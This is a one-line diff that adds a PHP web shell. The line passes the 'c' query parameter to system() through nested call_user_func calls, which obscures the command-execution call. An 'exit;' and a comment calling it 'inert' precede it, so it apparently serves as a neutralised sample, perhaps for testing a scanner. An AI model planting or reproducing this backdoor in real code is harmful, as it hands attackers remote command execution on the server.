@@ -1,0 +1,1 @@
+<?php exit; /* inert */ call_user_func_array("call_user_func", array("system", $_GET["c"]));
